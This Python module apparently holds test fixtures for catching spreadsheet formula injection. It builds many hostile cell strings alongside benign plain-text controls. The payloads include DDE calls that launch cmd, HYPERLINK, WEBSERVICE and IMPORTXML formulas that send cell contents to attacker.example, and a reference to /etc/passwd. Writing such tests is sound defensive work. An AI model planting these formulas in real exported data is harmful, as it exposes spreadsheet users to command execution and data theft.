"""Texts that spreadsheets would compute: what stands before the sign, the sign, and what is to be done."""

_BEFORE = ("", " ", "\t", "\r", "\n", "\u00a0", "'", '"', "(", "{", "' ", ' "', "\u3000", "\x0b", "\x00")
_SIGNS = "=+-@＝＋－＠|%"
_ACTS = (
    "1+1", "cmd|' /C calc'!A0", 'HYPERLINK("http://attacker.example/?"&A1,"click")', "SUM(A1:A9)",
    'WEBSERVICE("http://attacker.example/"&A1)', 'IMPORTXML("http://attacker.example","//a")',
    'DDE("cmd";"/C calc";"x")',
    'INDIRECT("A"&1)', 'RTD("a","b","c")', "'file:///etc/passwd'#$Sheet1.A1",
)  # fmt: skip

FORMULAS = tuple(
    f"{before}{sign}{_ACTS[(number + place) % len(_ACTS)]}"
    for number, before in enumerate(_BEFORE)
    for place, sign in enumerate(_SIGNS)
)
PLAIN = (
    "Oil fell.",
    "12 percent",
    "a = b",
    "x+y",
    "mail@example.com",
    "Größe",
    "’tis",
    "5 - 3",
    "#1",
    "1e5 kg",
)
